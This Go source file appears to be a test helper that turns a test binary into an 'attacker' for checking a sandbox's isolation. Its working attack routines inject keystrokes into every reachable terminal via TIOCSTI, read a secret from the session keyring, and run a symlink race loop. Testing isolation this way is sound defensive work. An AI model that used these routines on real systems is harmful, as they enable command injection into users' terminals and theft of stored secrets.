package hostile

import (
	"fmt"
	"os"
	"os/exec"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"
)

// attackerName is the argv[0] that makes the test binary an attacker.
const attackerName = "attacker"

// attackerPath is the path of the attacker, on the host and in a subhost on the host's
// root.
const attackerPath = tools + "/attacker"

// attack carries out the attack that the words name, prints the result, and returns an exit
// status.
func attack(words []string) int {
	switch {
	case words[0] == "type" && len(words) == 2:
		return typeInto(words[1])
	case words[0] == "key":
		return findKey()
	case words[0] == "links" && len(words) == 3:
		plantLinks(words[1], words[2])
	}
	fmt.Println("what?", words)
	return 2
}

// typeInto types a text into every terminal within reach: the controlling terminal, and
// those open as descriptors.
func typeInto(text string) int {
	fds := []int{}
	if fd, err := unix.Open("/dev/tty", unix.O_RDWR, 0); err == nil {
		fmt.Println("opened /dev/tty")
		fds = append(fds, fd)
	}
	for fd := range 256 {
		if _, err := unix.IoctlGetTermios(fd, unix.TCGETS); err == nil {
			fmt.Println("a terminal is open as", fd)
			fds = append(fds, fd)
		}
	}
	for _, fd := range fds {
		for i := range len(text) {
			c := text[i]
			_, _, errno := unix.Syscall(unix.SYS_IOCTL, uintptr(fd), unix.TIOCSTI,
				uintptr(unsafe.Pointer(&c)))
			if errno != 0 {
				fmt.Println("typing:", errno)
				break
			}
		}
	}
	return 0
}

// keyName names a secret in the session keyring of the booting user.
const keyName = "overlay-hostile"

func findKey() int {
	id, err := unix.KeyctlSearch(unix.KEY_SPEC_SESSION_KEYRING, "user", keyName, 0)
	if err != nil {
		fmt.Println("no key:", err)
		return 0
	}
	secret := make([]byte, 100)
	n, err := unix.KeyctlBuffer(unix.KEYCTL_READ, id, secret, 0)
	fmt.Printf("key %q %v\n", secret[:max(0, min(n, len(secret)))], err)
	return 1
}

// plantLinks repeatedly creates and removes a symbolic link at a path for half a minute.
func plantLinks(target, path string) {
	for end := time.Now().Add(30 * time.Second); time.Now().Before(end); {
		_ = os.Symlink(target, path)
		_ = os.Remove(path)
	}
}

// attacker returns a command that runs the attacker on the host.
func attacker(words ...string) *exec.Cmd {
	cmd := exec.Command(attackerPath, words...)
	cmd.Args[0] = attackerName
	return cmd
}

// attackInside returns a shell command line that runs the attacker inside.
func attackInside(words string) string {
	return "bash -c 'exec -a " + attackerName + " " + attackerPath + ` "$@"' - ` + words
}
